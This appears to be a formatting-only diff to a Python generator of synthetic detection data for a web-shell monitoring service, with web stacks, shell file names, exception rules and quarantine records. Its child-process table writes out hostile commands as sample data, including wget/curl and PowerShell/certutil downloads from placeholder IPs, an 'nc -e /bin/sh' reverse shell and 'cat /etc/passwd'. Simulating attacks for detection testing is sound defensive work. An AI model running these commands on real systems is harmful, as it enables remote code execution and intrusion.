@@ -35,31 +35,50 @@ ID_FIELDS = {
 # Web stacks: parent process (name, args, executor, uid), web root, upload dir, shell names.
 STACKS = {
     'apache': {
-        'os': 'LINUX', 'role': 'web', 'wasType': 'apache',
+        'os': 'LINUX',
+        'role': 'web',
+        'wasType': 'apache',
         'parents': [('apache2', '/usr/sbin/apache2 -k start', 'www-data', '33'), ('httpd', '/usr/sbin/httpd -DFOREGROUND', 'apache', '48')],
-        'webRoot': '/var/www/html', 'upload': '/var/www/html/uploads',
+        'webRoot': '/var/www/html',
+        'upload': '/var/www/html/uploads',
         'shells': ('shell.php', 'cmd.php', 'up.php', 'wso.php', 'b374k.php', '.config.php'),
         'images': ('ubuntu-22.04-base', 'ubuntu-20.04-base', 'rocky-8.10-base', 'centos-7.8-64'),
     },
     'tomcat': {
-        'os': 'LINUX', 'role': 'was', 'wasType': 'tomcat',
-        'parents': [('java', '/usr/lib/jvm/java-11-openjdk/bin/java -Dcatalina.base=/opt/tomcat -classpath /opt/tomcat/bin/bootstrap.jar '
-                             'org.apache.catalina.startup.Bootstrap start', 'tomcat', '91')],
-        'webRoot': '/opt/tomcat/webapps/ROOT', 'upload': '/opt/tomcat/webapps/ROOT/upload',
+        'os': 'LINUX',
+        'role': 'was',
+        'wasType': 'tomcat',
+        'parents': [
+            (
+                'java',
+                '/usr/lib/jvm/java-11-openjdk/bin/java -Dcatalina.base=/opt/tomcat -classpath /opt/tomcat/bin/bootstrap.jar '
+                'org.apache.catalina.startup.Bootstrap start',
+                'tomcat',
+                '91',
+            )
+        ],
+        'webRoot': '/opt/tomcat/webapps/ROOT',
+        'upload': '/opt/tomcat/webapps/ROOT/upload',
         'shells': ('cmd.jsp', 'shell.jsp', 'x.jsp', 'browser.jsp'),
         'images': ('rocky-8.10-base', 'ubuntu-22.04-base', 'centos-7.8-64'),
     },
     'nginx': {
-        'os': 'LINUX', 'role': 'api', 'wasType': 'nginx',
+        'os': 'LINUX',
+        'role': 'api',
+        'wasType': 'nginx',
         'parents': [('nginx', 'nginx: worker process', 'nginx', '101')],
-        'webRoot': '/usr/share/nginx/html', 'upload': '/usr/share/nginx/html/files',
+        'webRoot': '/usr/share/nginx/html',
+        'upload': '/usr/share/nginx/html/files',
         'shells': ('shell.php', 'x.php', 'info.php'),
         'images': ('ubuntu-22.04-base', 'rocky-8.10-base'),
     },
     'iis': {
-        'os': 'WINDOWS', 'role': 'win', 'wasType': 'iis',
+        'os': 'WINDOWS',
+        'role': 'win',
+        'wasType': 'iis',
         'parents': [('w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"', 'DefaultAppPool', '0')],
-        'webRoot': 'C:\\inetpub\\wwwroot', 'upload': 'C:\\inetpub\\wwwroot\\upload',
+        'webRoot': 'C:\\inetpub\\wwwroot',
+        'upload': 'C:\\inetpub\\wwwroot\\upload',
         'shells': ('cmd.aspx', 'help.aspx', 'a.ashx', 'shell.asp'),
         'images': ('win-2019-64-en', 'win-2022-64-en'),
     },
@@ -68,19 +87,33 @@ STACK_NAMES = ('apache', 'apache', 'tomcat', 'nginx', 'iis')
 
 # (processName, processArg, weight); "{up}" is replaced with the stack's upload dir.
 LINUX_CHILDREN = (
-    ('sh', 'sh -c id', 4), ('bash', 'bash -i', 2), ('sh', '/bin/sh -c uname -a', 2),
-    ('wget', 'wget http://203.0.113.45/x.sh -O /tmp/.x.sh', 2), ('curl', 'curl -fsSL http://198.51.100.23/p.sh', 1),
-    ('python3', 'python3 -c import pty;pty.spawn("/bin/bash")', 1), ('php', '/usr/bin/php {up}/cmd.php', 2),
-    ('cat', 'cat /etc/passwd', 2), ('whoami', 'whoami', 2), ('nc', 'nc -e /bin/sh 192.0.2.77 4444', 1),
+    ('sh', 'sh -c id', 4),
+    ('bash', 'bash -i', 2),
+    ('sh', '/bin/sh -c uname -a', 2),
+    ('wget', 'wget http://203.0.113.45/x.sh -O /tmp/.x.sh', 2),
+    ('curl', 'curl -fsSL http://198.51.100.23/p.sh', 1),
+    ('python3', 'python3 -c import pty;pty.spawn("/bin/bash")', 1),
+    ('php', '/usr/bin/php {up}/cmd.php', 2),
+    ('cat', 'cat /etc/passwd', 2),
+    ('whoami', 'whoami', 2),
+    ('nc', 'nc -e /bin/sh 192.0.2.77 4444', 1),
 )
 WINDOWS_CHILDREN = (
-    ('cmd.exe', 'cmd.exe /c whoami', 4), ('cmd.exe', 'cmd.exe /c ipconfig /all', 2), ('net.exe', 'net user', 1),
+    ('cmd.exe', 'cmd.exe /c whoami', 4),
+    ('cmd.exe', 'cmd.exe /c ipconfig /all', 2),
+    ('net.exe', 'net user', 1),
     ('powershell.exe', 'powershell.exe -nop -w hidden -c iwr http://203.0.113.45/a.ps1', 1),
     ('certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.23/a.exe', 1),
 )
 SUSPICIOUS_IPS = (
-    ('203.0.113.45', 'CN'), ('203.0.113.7', 'RU'), ('198.51.100.23', 'US'), ('198.51.100.9', 'NL'),
-    ('192.0.2.77', 'KR'), ('192.0.2.130', 'KR'), ('203.0.113.200', 'CN'), ('198.51.100.150', 'RU'),
+    ('203.0.113.45', 'CN'),
+    ('203.0.113.7', 'RU'),
+    ('198.51.100.23', 'US'),
+    ('198.51.100.9', 'NL'),
+    ('192.0.2.77', 'KR'),
+    ('192.0.2.130', 'KR'),
+    ('203.0.113.200', 'CN'),
+    ('198.51.100.150', 'RU'),
 )
 MEMOS = ('checked by secops', 'false positive: deploy script', 'ticket SEC-1234', 'investigating', '\uc545\uc131 \uc5ec\ubd80 \ud655\uc778 \uc911')
 WIN_OWNERS = ('S-1-5-32-544', 'S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415')
@@ -135,8 +168,10 @@ class Dataset(object):
         detection = self.index.get((resource, detection_id))
         if detection is None:
             return None
-        return [self.objects.get(f['suspicionFileId']) or self.quarantined.get(f['suspicionFileId']) or build_object(self, detection, f)
-                for f in detection['suspicionFiles'] or []]
+        return [
+            self.objects.get(f['suspicionFileId']) or self.quarantined.get(f['suspicionFileId']) or build_object(self, detection, f)
+            for f in detection['suspicionFiles'] or []
+        ]
 
     def _new_id(self, now_ms):
         """22 digits like the others, but from the current time and a '9' series no generated ID uses."""
@@ -152,8 +187,16 @@ class Dataset(object):
         new = []
         for number in range(count if records else 0):
             record = copy.deepcopy(records[number % len(records)])
-            record.update(detectionId=self._new_id(now_ms), detectTime=now_ms, actionTime=now_ms, collectTime=now_ms,
-                          lastUpdatedTime=now_ms, actionStatus='blank', isChecked=False, memo='')
+            record.update(
+                detectionId=self._new_id(now_ms),
+                detectTime=now_ms,
+                actionTime=now_ms,
+                collectTime=now_ms,
+                lastUpdatedTime=now_ms,
+                actionStatus='blank',
+                isChecked=False,
+                memo='',
+            )
             for item in (record.get('suspicionFiles') or []) + (record.get('suspicionIps') or []):
                 item['detectionId'] = record['detectionId']
                 item['suspicionFileId' if 'suspicionFileId' in item else 'suspicionIpId'] = self._new_id(now_ms)
@@ -169,7 +212,7 @@ class Dataset(object):
         listed); returns their IDs."""
         records = self.records(resource)
         gone = records[:count]
-        del records[:len(gone)]
+        del records[: len(gone)]
         self.version += 1
         for record in gone:
             self.index.pop((resource, record.get('detectionId')), None)
@@ -189,8 +232,9 @@ def make_servers(rng, ids, data, count, ghosts):
     numbers = rng.sample(range(10000000, 100000000), count + ghosts)
     extra = max(0, count - len(AGENT_STATUSES))
     enabled = int(round(extra * 0.75))
-    statuses = list(AGENT_STATUSES[:count]) + ['enable'] * enabled + [
-        _weighted(rng, AGENT_STATUSES[1:], _cum((10, 8, 4, 4, 4))) for dummy in range(extra - enabled)]
+    statuses = (
+        list(AGENT_STATUSES[:count]) + ['enable'] * enabled + [_weighted(rng, AGENT_STATUSES[1:], _cum((10, 8, 4, 4, 4))) for dummy in range(extra - enabled)]
+    )
     rng.shuffle(statuses)
     groups = {}
     seq = {}
@@ -228,23 +272,24 @@ def _files(rng, ids, spec, *, detection_id, detect_time, owner, age_ms):
     for dummy in range(_weighted(rng, (0, 1, 2, 3), (2, 6, 9, 10))):
         sep = '\\' if spec['os'] == 'WINDOWS' else '/'
         modify = detect_time - rng.randint(60, 3 * 86400) * 1000
-        files.append({
-            'suspicionFileId': ids.make(age_ms),
-            'fileOriginName': spec['upload'] + sep + spec['shells'][rng.randrange(len(spec['shells']))],
-            'fileOwner': owner,
-            'weight': rng.randint(1, 100),
-            'accessTime': detect_time // 1000 * 1000 - rng.randint(0, 60) * 1000,
-            'modifyTime': modify // 1000 * 1000,
-            'changeTime': modify // 1000 * 1000,
-            'detectionId': detection_id,
-        })
+        files.append(
+            {
+                'suspicionFileId': ids.make(age_ms),
+                'fileOriginName': spec['upload'] + sep + spec['shells'][rng.randrange(len(spec['shells']))],
+                'fileOwner': owner,
+                'weight': rng.randint(1, 100),
+                'accessTime': detect_time // 1000 * 1000 - rng.randint(0, 60) * 1000,
+                'modifyTime': modify // 1000 * 1000,
+                'changeTime': modify // 1000 * 1000,
+                'detectionId': detection_id,
+            }
+        )
     return files
 
 
 def _ips(rng, ids, detection_id, age_ms):
     picks = rng.sample(SUSPICIOUS_IPS, _weighted(rng, (0, 1, 2), (3, 8, 10)))
-    return [{'suspicionIpId': ids.make(age_ms), 'detectionId': detection_id, 'suspicionIp': ip, 'country': country, 'platform': 'VPC'}
-            for ip, country in picks]
+    return [{'suspicionIpId': ids.make(age_ms), 'detectionId': detection_id, 'suspicionIp': ip, 'country': country, 'platform': 'VPC'} for ip, country in picks]
 
 
 class DetectionMaker(object):
@@ -276,18 +321,37 @@ class DetectionMaker(object):
         collect = detect_time + rng.randint(100, 2000)
         owner = WIN_OWNERS[rng.randrange(2)] if spec['os'] == 'WINDOWS' else (parent[2] if rng.random() < 0.7 else 'root')
         return {
-            'detectionId': detection_id, 'instanceNo': server['instanceNo'], 'hostName': server['serverName'],
-            'serverName': server['serverName'], 'containerName': '' if server['serverEnvType'] == 'VM' else 'web-7d9f-%05d' % rng.randrange(99999),
-            'privateIPofServer': server['ipAddress'], 'command': arg, 'processName': name, 'processArg': arg,
-            'processId': str(rng.randint(1000, 65000)), 'executor': parent[2], 'processIdOfParent': str(rng.randint(300, 9000)),
-            'processNameOfParent': parent[0], 'processArgOfParent': parent[1], 'executorOfParent': parent[2],
-            'uid': parent[3], 'euid': parent[3], 'gid': parent[3], 'egid': parent[3],
-            'actionStatus': 'confirmed' if confirmed else 'blank', 'memo': MEMOS[rng.randrange(len(MEMOS))] if rng.random() < 0.15 else '',
-            'actionTime': detect_time - rng.randint(0, 3000), 'detectTime': detect_time, 'collectTime': collect,
+            'detectionId': detection_id,
+            'instanceNo': server['instanceNo'],
+            'hostName': server['serverName'],
+            'serverName': server['serverName'],
+            'containerName': '' if server['serverEnvType'] == 'VM' else 'web-7d9f-%05d' % rng.randrange(99999),
+            'privateIPofServer': server['ipAddress'],
+            'command': arg,
+            'processName': name,
+            'processArg': arg,
+            'processId': str(rng.randint(1000, 65000)),
+            'executor': parent[2],
+            'processIdOfParent': str(rng.randint(300, 9000)),
+            'processNameOfParent': parent[0],
+            'processArgOfParent': parent[1],
+            'executorOfParent': parent[2],
+            'uid': parent[3],
+            'euid': parent[3],
+            'gid': parent[3],
+            'egid': parent[3],
+            'actionStatus': 'confirmed' if confirmed else 'blank',
+            'memo': MEMOS[rng.randrange(len(MEMOS))] if rng.random() < 0.15 else '',
+            'actionTime': detect_time - rng.randint(0, 3000),
+            'detectTime': detect_time,
+            'collectTime': collect,
             'lastUpdatedTime': min(self.data.anchor_ms, detect_time + rng.randint(3600, 3 * 86400) * 1000) if confirmed else collect,
-            'isChecked': confirmed, 'memberNo': self.data.member_no, 'detectionRuleId': self.rule_ids[rng.randrange(len(self.rule_ids))],
+            'isChecked': confirmed,
+            'memberNo': self.data.member_no,
+            'detectionRuleId': self.rule_ids[rng.randrange(len(self.rule_ids))],
             'suspicionFiles': _files(rng, self.ids, spec, detection_id=detection_id, detect_time=detect_time, owner=owner, age_ms=age_ms),
-            'suspicionIps': _ips(rng, self.ids, detection_id, age_ms), 'osType': spec['os'],
+            'suspicionIps': _ips(rng, self.ids, detection_id, age_ms),
+            'osType': spec['os'],
         }
 
 
@@ -297,24 +361,46 @@ def build_object(data, detection, sfile):
     windows = detection['osType'] == 'WINDOWS'
     malware = sfile['weight'] >= 40 and rng.random() < 0.8
     return {
-        'suspicionFileId': sfile['suspicionFileId'], 'detectionId': detection['detectionId'], 'hostName': detection['hostName'],
-        'serverName': detection['serverName'], 'osType': detection['osType'], 'fileOriginName': sfile['fileOriginName'],
-        'quarantineFileName': '', 'fileSize': rng.randint(120, 250000),
+        'suspicionFileId': sfile['suspicionFileId'],
+        'detectionId': detection['detectionId'],
+        'hostName': detection['hostName'],
+        'serverName': detection['serverName'],
+        'osType': detection['osType'],
+        'fileOriginName': sfile['fileOriginName'],
+        'quarantineFileName': '',
+        'fileSize': rng.randint(120, 250000),
         'sha1': hashlib.sha1(('%s:%s' % (data.seed, sfile['suspicionFileId'])).encode('ascii')).hexdigest(),
-        'privateIPofServer': detection['privateIPofServer'], 'fileAuthority': 'FullControl' if windows else ('-rw-r--r--', '-rwxrwxrwx')[rng.randrange(2)],
-        'fileOwner': sfile['fileOwner'], 'fileGroup': 'Administrators' if windows else sfile['fileOwner'],
-        'accessTime': sfile['accessTime'], 'modifyTime': sfile['modifyTime'], 'changeTime': sfile['changeTime'],
-        'instanceNo': detection['instanceNo'], 'hashScanResult': 'malware' if malware else 'notMalware',
-        'memo': '', 'weight': sfile['weight'], 'status': 'quarantineFailed' if rng.random() < 0.05 else 'detected',
+        'privateIPofServer': detection['privateIPofServer'],
+        'fileAuthority': 'FullControl' if windows else ('-rw-r--r--', '-rwxrwxrwx')[rng.randrange(2)],
+        'fileOwner': sfile['fileOwner'],
+        'fileGroup': 'Administrators' if windows else sfile['fileOwner'],
+        'accessTime': sfile['accessTime'],
+        'modifyTime': sfile['modifyTime'],
+        'changeTime': sfile['changeTime'],
+        'instanceNo': detection['instanceNo'],
+        'hashScanResult': 'malware' if malware else 'notMalware',
+        'memo': '',
+        'weight': sfile['weight'],
+        'status': 'quarantineFailed' if rng.random() < 0.05 else 'detected',
     }
 
 
 def _rule_base(data, rng, ids, name, age_ms):
     base = {
-        'disabled': False, 'actionName': None, 'permission': None, 'exceptedRuleId': ids.make(age_ms), 'exceptedRuleName': name,
-        'exceptTargetType': 'everyServer', 'exceptTarget': '', 'exceptTargetName': '',
-        'createdTime': data.anchor_ms - age_ms, 'deletedTime': None, 'isDeleted': False, 'memo': None,
-        'memberNo': data.member_no, 'groupIsDeleted': None,
+        'disabled': False,
+        'actionName': None,
+        'permission': None,
+        'exceptedRuleId': ids.make(age_ms),
+        'exceptedRuleName': name,
+        'exceptTargetType': 'everyServer',
+        'exceptTarget': '',
+        'exceptTargetName': '',
+        'createdTime': data.anchor_ms - age_ms,
+        'deletedTime': None,
+        'isDeleted': False,
+        'memo': None,
+        'memberNo': data.member_no,
+        'groupIsDeleted': None,
     }
     for field in RULE_FIELDS:
         base[field] = ''
@@ -330,21 +416,34 @@ def _target(data, rule, kind, stacks=None, server=None):
     if kind == 'server' and server:
         rule.update(exceptTargetType='server', exceptTarget=server['instanceNo'], exceptTargetName=server['serverName'])
     elif kind == 'serverGroup' and server:
-        rule.update(exceptTargetType='serverGroup', exceptTarget=server['serverGroupId'],
-                    exceptTargetName=server['serverGroupName'], groupIsDeleted=False)
+        rule.update(exceptTargetType='serverGroup', exceptTarget=server['serverGroupId'], exceptTargetName=server['serverGroupName'], groupIsDeleted=False)
 
 
 # name, target kind, preferred stacks, {field: (condition, value)}, extra attributes
 RULE_TEMPLATES = (
     ('allow-php-cli-upload', 'server', ('apache', 'nginx'), {'processArg': ('START', '/usr/bin/php')}, {}),
     ('temp-allow-everything', 'serverGroup', ('tomcat',), {}, {'memo': 'temporary during migration - remove'}),
-    ('iis-whoami-monitoring', 'everyServer', None,
-     {'processName': ('EQUAL', 'cmd.exe'), 'processArg': ('END', 'whoami'), 'executor': ('EQUAL', 'DefaultAppPool')}, {}),
-    ('tomcat-healthcheck', 'server', ('tomcat',),
-     {'processNameOfParent': ('EQUAL', 'java'), 'executorOfParent': ('EQUAL', 'tomcat'), 'processName': ('EQUAL', 'sh'),
-      'processArg': ('START', 'sh -c')}, {}),
-    ('legacy-batch-group', 'serverGroup', None, {'executor': ('EQUAL', 'www-data'), 'processName': ('EQUAL', 'bash')},
-     {'groupIsDeleted': True, 'exceptTarget': '9000001', 'exceptTargetName': 'legacy-batch-group'}),
+    (
+        'iis-whoami-monitoring',
+        'everyServer',
+        None,
+        {'processName': ('EQUAL', 'cmd.exe'), 'processArg': ('END', 'whoami'), 'executor': ('EQUAL', 'DefaultAppPool')},
+        {},
+    ),
+    (
+        'tomcat-healthcheck',
+        'server',
+        ('tomcat',),
+        {'processNameOfParent': ('EQUAL', 'java'), 'executorOfParent': ('EQUAL', 'tomcat'), 'processName': ('EQUAL', 'sh'), 'processArg': ('START', 'sh -c')},
+        {},
+    ),
+    (
+        'legacy-batch-group',
+        'serverGroup',
+        None,
+        {'executor': ('EQUAL', 'www-data'), 'processName': ('EQUAL', 'bash')},
+        {'groupIsDeleted': True, 'exceptTarget': '9000001', 'exceptTargetName': 'legacy-batch-group'},
+    ),
     ('nginx-deploy-scripts', 'server', ('nginx',), {'processNameOfParent': ('EQUAL', 'nginx'), 'processArg': ('END', '.sh')}, {'disabled': True}),
 )
 
@@ -470,12 +569,15 @@ def make_exceptions(data, rng, maker, count):
 
 
 def make_quarantines(data, rng, count):
-    candidates = [(d, f) for d in data.detections[:max(count * 20, 200)] for f in d['suspicionFiles']]
+    candidates = [(d, f) for d in data.detections[: max(count * 20, 200)] for f in d['suspicionFiles']]
     picks = rng.sample(candidates, min(count, len(candidates)))
     for detection, sfile in picks:
         record = build_object(data, detection, sfile)
-        record.update(status='quarantined', quarantineFileName='%s.%s.wbdq' % (sfile['fileOriginName'], sfile['suspicionFileId']),
-                      quarantineTime=min(data.anchor_ms, detection['detectTime'] + rng.randint(600, 2 * 86400) * 1000))
+        record.update(
+            status='quarantined',
+            quarantineFileName='%s.%s.wbdq' % (sfile['fileOriginName'], sfile['suspicionFileId']),
+            quarantineTime=min(data.anchor_ms, detection['detectTime'] + rng.randint(600, 2 * 86400) * 1000),
+        )
         # Every third file gets a note (derived from its ID, so the shared generator's sequence is unchanged).
         if int(sfile['suspicionFileId']) % 3 == 0:
             record['memo'] = 'quarantined by secops, ticket SEC-%04d' % (int(sfile['suspicionFileId']) % 10000)
@@ -498,9 +600,14 @@ def make_dataset(seed=1, servers=30, detections=300, *, exception_rules=12, dele
     make_exceptions(data, rng, maker, excepted)
     make_quarantines(data, rng, quarantines)
     data.alarm_interval = {
-        'id': ids.make(300 * DAY_MS), 'memberNo': str(data.member_no), 'interval': 600000,
-        'lastSendNotificationTime': anchor - rng.randint(60, 86400) * 1000, 'createTime': anchor - 300 * DAY_MS,
-        'lastUpdatedTime': anchor - 20 * DAY_MS, 'platform': 'VPC', 'isDeleted': False,
+        'id': ids.make(300 * DAY_MS),
+        'memberNo': str(data.member_no),
+        'interval': 600000,
+        'lastSendNotificationTime': anchor - rng.randint(60, 86400) * 1000,
+        'createTime': anchor - 300 * DAY_MS,
+        'lastUpdatedTime': anchor - 20 * DAY_MS,
+        'platform': 'VPC',
+        'isDeleted': False,
     }
     for resource in ('detections', 'exceptions'):
         for record in data.records(resource):
